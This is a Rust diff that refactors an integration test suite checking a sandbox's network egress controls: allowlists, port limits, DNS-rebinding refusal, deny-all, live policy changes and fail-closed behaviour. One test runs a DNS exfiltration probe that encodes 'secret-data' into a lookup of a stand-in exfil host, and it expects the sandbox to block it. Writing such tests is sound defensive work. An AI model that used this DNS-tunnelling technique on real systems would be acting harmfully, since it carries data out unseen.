@@ -12,7 +12,7 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use namzu::egress::{EgressConfig, EgressPolicy, HostPattern, HostRule, PolicyError};
-use namzu::{Error, ExecRequest, Sandbox, SandboxSpec};
+use namzu::{Error, Sandbox, SandboxSpec};
 
 use crate::netlab::{NetLab, PRIVATE, PUB1, PUB2, STREAM_PORT};
 
@@ -37,7 +37,7 @@ pub struct Env {
 }
 
 /// A provider's `connect`, by id.
-pub type Connect = Arc<dyn Fn(String) -> crate::BoxFut<namzu::Result<Box<dyn Sandbox>>> + Send + Sync>;
+pub type Connect = Arc<dyn Fn(String) -> crate::BoxFut<namzu::Result<Sandbox>> + Send + Sync>;
 
 /// A case, by name.
 pub type Case = fn(&Env) -> futures::future::BoxFuture<'_, Outcome>;
@@ -100,15 +100,11 @@ pub fn allow(entries: &[&str]) -> EgressPolicy {
     }
 }
 
-async fn sandbox(env: &Env, policy: EgressPolicy) -> Result<Box<dyn Sandbox>, String> {
+async fn sandbox(env: &Env, policy: EgressPolicy) -> Result<Sandbox, String> {
     sandbox_with(env, policy, Vec::new()).await
 }
 
-async fn sandbox_with(
-    env: &Env,
-    policy: EgressPolicy,
-    reach_link_local: Vec<ipnet::IpNet>,
-) -> Result<Box<dyn Sandbox>, String> {
+async fn sandbox_with(env: &Env, policy: EgressPolicy, reach_link_local: Vec<ipnet::IpNet>) -> Result<Sandbox, String> {
     sandbox_of(
         env,
         EgressConfig {
@@ -121,7 +117,7 @@ async fn sandbox_with(
 }
 
 /// A sandbox with `config`, the lab's names added to its hosts.
-async fn sandbox_of(env: &Env, mut config: EgressConfig) -> Result<Box<dyn Sandbox>, String> {
+async fn sandbox_of(env: &Env, mut config: EgressConfig) -> Result<Sandbox, String> {
     config.hosts.extend(NetLab::hosts());
     let sb = (env.factory)(SandboxSpec {
         egress: config,
@@ -129,19 +125,16 @@ async fn sandbox_of(env: &Env, mut config: EgressConfig) -> Result<Box<dyn Sandb
     })
     .await
     .map_err(|e| format!("create: {e}"))?;
-    sb.write_file(
-        Path::new("/workspace/ca.pem"),
-        env.cert.clone().into(),
-        Default::default(),
-    )
-    .await
-    .map_err(|e| format!("write ca.pem: {e}"))?;
+    sb.files()
+        .write(Path::new("/workspace/ca.pem"), env.cert.clone())
+        .await
+        .map_err(|e| format!("write ca.pem: {e}"))?;
     Ok(sb)
 }
 
 /// (exit code, stdout, stderr) of a shell script.
-pub async fn sh(sb: &dyn Sandbox, script: &str) -> (i32, String, String) {
-    let o = sb.exec(ExecRequest::shell(script)).await.unwrap();
+pub async fn sh(sb: &Sandbox, script: &str) -> (i32, String, String) {
+    let o = sb.commands().run(script).await.unwrap();
     (
         o.status.code.unwrap_or(-1),
         String::from_utf8_lossy(&o.stdout).into_owned(),
@@ -151,13 +144,13 @@ pub async fn sh(sb: &dyn Sandbox, script: &str) -> (i32, String, String) {
 
 /// [`sh`] on a task of its own, for a command that runs while the case
 /// goes on (a stream, a flood).
-pub fn in_background(sb: &Arc<dyn Sandbox>, script: String) -> tokio::task::JoinHandle<(i32, String, String)> {
+pub fn in_background(sb: &Sandbox, script: String) -> tokio::task::JoinHandle<(i32, String, String)> {
     let sb = sb.clone();
-    tokio::spawn(async move { sh(sb.as_ref(), &script).await })
+    tokio::spawn(async move { sh(&sb, &script).await })
 }
 
 /// What curl got: "<http code> <proxy CONNECT code>" and the body.
-pub async fn curl(sb: &dyn Sandbox, args: &str) -> (String, String) {
+pub async fn curl(sb: &Sandbox, args: &str) -> (String, String) {
     let (_, out, _) = sh(
         sb,
         &format!("curl -s -m 10 --cacert /workspace/ca.pem -w '\\n%{{http_code}} %{{http_connect}}' {args}"),
@@ -178,25 +171,25 @@ fn check(what: &str, ok: bool, detail: impl std::fmt::Debug) -> Result<(), Strin
 pub async fn allowlist_admits_its_names_and_refuses_the_rest(env: &Env) -> Outcome {
     let sb = sandbox(env, allow(&[".allowed.test"])).await?;
     // Positive controls first: the same proxy path reaches the lab.
-    let (codes, body) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, body) = curl(&sb, "http://allowed.test/").await;
     check(
         "allowed name",
         codes.starts_with("200") && body.trim() == format!("served by {PUB1}:80"),
         (&codes, &body),
     )?;
-    let (codes, body) = curl(sb.as_ref(), "http://api.allowed.test/").await;
+    let (codes, body) = curl(&sb, "http://api.allowed.test/").await;
     check(
         "subdomain of .allowed.test",
         codes.starts_with("200") && body.contains(PUB2),
         (&codes, &body),
     )?;
-    let (codes, body) = curl(sb.as_ref(), "https://tls.allowed.test/").await;
+    let (codes, body) = curl(&sb, "https://tls.allowed.test/").await;
     check(
         "TLS through CONNECT, name verified",
         codes == "200 200" && body.contains("s_server"),
         (&codes, body.len()),
     )?;
-    let (codes, body) = curl(sb.as_ref(), "--proxy socks5h://127.0.0.1:1080 http://allowed.test/").await;
+    let (codes, body) = curl(&sb, "--proxy socks5h://127.0.0.1:1080 http://allowed.test/").await;
     check(
         "SOCKS5",
         codes.starts_with("200") && body.contains(PUB1),
@@ -208,27 +201,23 @@ pub async fn allowlist_admits_its_names_and_refuses_the_rest(env: &Env) -> Outco
         "http://other.test/",
         &format!("http://{PUB1}/"),
     ] {
-        let (codes, body) = curl(sb.as_ref(), url).await;
+        let (codes, body) = curl(&sb, url).await;
         check(
             url,
             codes.starts_with("403") && body.contains("refused"),
             (&codes, &body),
         )?;
     }
-    let (codes, _) = curl(sb.as_ref(), "https://other.test/").await;
+    let (codes, _) = curl(&sb, "https://other.test/").await;
     check("CONNECT to other.test", codes == "000 403", &codes)?;
     // A permitted name that resolves inside: DNS rebinding.
-    let (codes, body) = curl(sb.as_ref(), "http://internal.allowed.test/").await;
+    let (codes, body) = curl(&sb, "http://internal.allowed.test/").await;
     check(
         "name resolving to a private address",
         codes.starts_with("403") && body.contains(PRIVATE),
         (&codes, &body),
     )?;
-    let (code, out, err) = sh(
-        sb.as_ref(),
-        "curl -s -m 10 --proxy socks5h://127.0.0.1:1080 http://other.test/",
-    )
-    .await;
+    let (code, out, err) = sh(&sb, "curl -s -m 10 --proxy socks5h://127.0.0.1:1080 http://other.test/").await;
     check("SOCKS5 refusal", code != 0 && out.is_empty(), (code, &out, &err))?;
     // Every decision is in the supervisor's log, with the sandbox's id.
     let log = std::fs::read_to_string((env.log_of)(sb.id())).unwrap_or_default();
@@ -266,9 +255,9 @@ pub async fn ports_narrow_an_allowlisted_host(env: &Env) -> Outcome {
         hosts: vec![HostRule::parse("allowed.test", Some(vec![80])).unwrap()],
     };
     let sb = sandbox(env, policy).await?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("port 80", codes.starts_with("200"), &codes)?;
-    let (codes, body) = curl(sb.as_ref(), "http://allowed.test:8080/").await;
+    let (codes, body) = curl(&sb, "http://allowed.test:8080/").await;
     check(
         "port 8080",
         codes.starts_with("403") && body.contains("8080"),
@@ -280,20 +269,20 @@ pub async fn ports_narrow_an_allowlisted_host(env: &Env) -> Outcome {
 pub async fn public_internet_never_reaches_inside(env: &Env) -> Outcome {
     let except = namzu::egress::policy::parse_cidrs(&[format!("{PUB2}/32")]).map_err(|e| e.to_string())?;
     let sb = sandbox(env, EgressPolicy::PublicInternet { except_cidrs: except }).await?;
-    let (codes, body) = curl(sb.as_ref(), &format!("http://{PUB1}/")).await;
+    let (codes, body) = curl(&sb, &format!("http://{PUB1}/")).await;
     check(
         "public IP literal",
         codes.starts_with("200") && body.contains(PUB1),
         (&codes, &body),
     )?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test:8080/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test:8080/").await;
     check("public name", codes.starts_with("200"), &codes)?;
     for url in [
         "http://internal.allowed.test/",
         &format!("http://{PRIVATE}/"),
         "http://api.allowed.test/",
     ] {
-        let (codes, body) = curl(sb.as_ref(), url).await;
+        let (codes, body) = curl(&sb, url).await;
         check(url, codes.starts_with("403"), (&codes, &body))?;
     }
     sb.destroy().await.map_err(|e| e.to_string())
@@ -301,26 +290,22 @@ pub async fn public_internet_never_reaches_inside(env: &Env) -> Outcome {
 
 pub async fn traffic_that_ignores_the_proxy_has_no_route(env: &Env) -> Outcome {
     let sb = sandbox(env, EgressPolicy::AllowAll).await?;
-    let (codes, _) = curl(sb.as_ref(), &format!("http://{PUB1}/")).await;
+    let (codes, _) = curl(&sb, &format!("http://{PUB1}/")).await;
     check("through the proxy", codes.starts_with("200"), &codes)?;
     // Allow-all is not the host: its own address and its loopback stay out.
-    let (codes, body) = curl(sb.as_ref(), "http://203.0.113.1:8080/").await;
+    let (codes, body) = curl(&sb, "http://203.0.113.1:8080/").await;
     check(
         "the host's own address",
         codes.starts_with("403") && body.contains("host's own"),
         (&codes, &body),
     )?;
-    let (codes, body) = curl(
-        sb.as_ref(),
-        "--noproxy '' --proxy http://127.0.0.1:3128 http://127.0.0.1:22/",
-    )
-    .await;
+    let (codes, body) = curl(&sb, "--noproxy '' --proxy http://127.0.0.1:3128 http://127.0.0.1:22/").await;
     check(
         "the host's loopback",
         codes.starts_with("403") && body.contains("loopback"),
         (&codes, &body),
     )?;
-    let (code, out, err) = sh(sb.as_ref(), &format!("curl -sS -m 5 --noproxy '*' http://{PUB1}/")).await;
+    let (code, out, err) = sh(&sb, &format!("curl -sS -m 5 --noproxy '*' http://{PUB1}/")).await;
     // 7: could not connect (no route), not a timeout and not a response.
     check("raw TCP", code == 7 && out.is_empty(), (code, &out, &err))?;
     sb.destroy().await.map_err(|e| e.to_string())
@@ -328,25 +313,25 @@ pub async fn traffic_that_ignores_the_proxy_has_no_route(env: &Env) -> Outcome {
 
 pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -> Outcome {
     let sb = sandbox(env, EgressPolicy::NoNetwork).await?;
-    let (code, out, _) = sh(sb.as_ref(), "getent hosts allowed.test").await;
+    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
     check("no-network resolves nothing", code == 2 && out.is_empty(), (code, &out))?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("no-network connects nowhere", codes.starts_with("403"), &codes)?;
     sb.destroy().await.map_err(|e| e.to_string())?;
 
     let sb = sandbox(env, EgressPolicy::DenyAll).await?;
-    let (code, out, _) = sh(sb.as_ref(), "getent hosts allowed.test").await;
+    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
     check(
         "deny-all resolves a listed name",
         code == 0 && out.starts_with(PUB1),
         (code, &out),
     )?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("deny-all connects nowhere", codes.starts_with("403"), &codes)?;
     // Audit item 10: a name nobody listed carries data out by being asked;
     // under deny-all it is refused before any resolver sees it.
     let id = sb.id().to_owned();
-    let (code, out, _) = sh(sb.as_ref(), "getent hosts c2VjcmV0LWRhdGE.exfil.example").await;
+    let (code, out, _) = sh(&sb, "getent hosts c2VjcmV0LWRhdGE.exfil.example").await;
     check(
         "deny-all refuses an unlisted name",
         code == 2 && out.is_empty(),
@@ -375,7 +360,7 @@ pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -
     )
     .await?;
     let id = sb.id().to_owned();
-    let (code, out, _) = sh(sb.as_ref(), "getent hosts allowed.test").await;
+    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
     check(
         "a lookup under the limit (control)",
         code == 0 && out.starts_with(PUB1),
@@ -384,7 +369,7 @@ pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -
     tokio::time::sleep(Duration::from_millis(1100)).await;
     let started = std::time::Instant::now();
     sh(
-        sb.as_ref(),
+        &sb,
         "for i in $(seq 40); do getent hosts allowed.test >/dev/null & done; wait",
     )
     .await;
@@ -408,8 +393,8 @@ pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -
 }
 
 pub async fn a_live_change_applies_at_once_and_closes_refused_connections(env: &Env) -> Outcome {
-    let sb: Arc<dyn Sandbox> = Arc::from(sandbox(env, allow(&[".allowed.test"])).await?);
-    let (codes, _) = curl(sb.as_ref(), "http://other.test/").await;
+    let sb: Sandbox = sandbox(env, allow(&[".allowed.test"])).await?;
+    let (codes, _) = curl(&sb, "http://other.test/").await;
     check("other.test before", codes.starts_with("403"), &codes)?;
     // A connection that stays open: a tick every 100 ms, for up to 60 s,
     // on a path of its own (the lab's server reports its close by path).
@@ -420,7 +405,7 @@ pub async fn a_live_change_applies_at_once_and_closes_refused_connections(env: &
     );
     let mut open = 0;
     for _ in 0..100 {
-        open = sb.network_policy().await.map_err(|e| e.to_string())?.1;
+        open = sb.network().policy().await.map_err(|e| e.to_string())?.1;
         if open > 0 {
             break;
         }
@@ -428,11 +413,12 @@ pub async fn a_live_change_applies_at_once_and_closes_refused_connections(env: &
     }
     check("the stream is open", open == 1, open)?;
     tokio::time::sleep(Duration::from_millis(300)).await;
-    sb.set_network_policy(allow(&["other.test"]))
+    sb.network()
+        .set_policy(allow(&["other.test"]))
         .await
         .map_err(|e| e.to_string())?;
     // Closed before `set` returned: no poll, the very next look.
-    let open_after = sb.network_policy().await.map_err(|e| e.to_string())?.1;
+    let open_after = sb.network().policy().await.map_err(|e| e.to_string())?.1;
     check(
         "no refused connection open once set returns",
         open_after == 0,
@@ -459,22 +445,22 @@ pub async fn a_live_change_applies_at_once_and_closes_refused_connections(env: &
         code == 0 && out.contains("tick 1") && !out.contains("rc=28"),
         (code, &out, &err),
     )?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("allowed.test after", codes.starts_with("403"), &codes)?;
-    let (codes, body) = curl(sb.as_ref(), "http://other.test/").await;
+    let (codes, body) = curl(&sb, "http://other.test/").await;
     check(
         "other.test after",
         codes.starts_with("200") && body.contains(PUB2),
         (&codes, &body),
     )?;
     // The last request's splice is torn down just after curl returns.
-    let (mut config, mut open) = sb.network_policy().await.map_err(|e| e.to_string())?;
+    let (mut config, mut open) = sb.network().policy().await.map_err(|e| e.to_string())?;
     for _ in 0..100 {
         if open == 0 {
             break;
         }
         tokio::time::sleep(Duration::from_millis(20)).await;
-        (config, open) = sb.network_policy().await.map_err(|e| e.to_string())?;
+        (config, open) = sb.network().policy().await.map_err(|e| e.to_string())?;
     }
     check(
         "policy shown",
@@ -506,21 +492,21 @@ pub async fn bad_policies_are_refused_by_name(env: &Env) -> Outcome {
         &err,
     )?;
     let sb = sandbox(env, allow(&["allowed.test"])).await?;
-    let err = sb.set_network_policy(forged).await.err();
+    let err = sb.network().set_policy(forged).await.err();
     check(
         "set_network_policy",
         matches!(&err, Some(Error::EgressPolicy(PolicyError::PublicSuffix { .. }))),
         &err,
     )?;
     // The old policy still holds.
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("old policy kept", codes.starts_with("200"), &codes)?;
     sb.destroy().await.map_err(|e| e.to_string())
 }
 
 pub async fn a_dead_supervisor_fails_closed_and_connect_restarts_it(env: &Env) -> Outcome {
     let sb = sandbox(env, allow(&[".allowed.test"])).await?;
-    let (codes, _) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&sb, "http://allowed.test/").await;
     check("before", codes.starts_with("200"), &codes)?;
     let pid = limits::supervisor_pid(env, sb.id())?;
     nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).map_err(|e| e.to_string())?;
@@ -534,13 +520,13 @@ pub async fn a_dead_supervisor_fails_closed_and_connect_restarts_it(env: &Env) -
         }
         tokio::time::sleep(Duration::from_millis(10)).await;
     }
-    let (codes, body) = curl(sb.as_ref(), "http://allowed.test/").await;
+    let (codes, body) = curl(&sb, "http://allowed.test/").await;
     check(
         "no supervisor: refused",
         codes.starts_with("403") && body.contains("no egress service"),
         (&codes, &body),
     )?;
-    let err = sb.network_policy().await.err();
+    let err = sb.network().policy().await.err();
     check(
         "no supervisor: typed",
         matches!(err, Some(Error::EgressUnavailable { .. })),
@@ -548,9 +534,9 @@ pub async fn a_dead_supervisor_fails_closed_and_connect_restarts_it(env: &Env) -
     )?;
     // A connect brings it back, with the policy it had.
     let again = (env.connect)(sb.id().to_owned()).await.map_err(|e| e.to_string())?;
-    let (codes, _) = curl(again.as_ref(), "http://allowed.test/").await;
+    let (codes, _) = curl(&again, "http://allowed.test/").await;
     check("after connect", codes.starts_with("200"), &codes)?;
-    let (codes, _) = curl(again.as_ref(), "http://other.test/").await;
+    let (codes, _) = curl(&again, "http://other.test/").await;
     check("after connect, same policy", codes.starts_with("403"), &codes)?;
     sb.destroy().await.map_err(|e| e.to_string())
 }
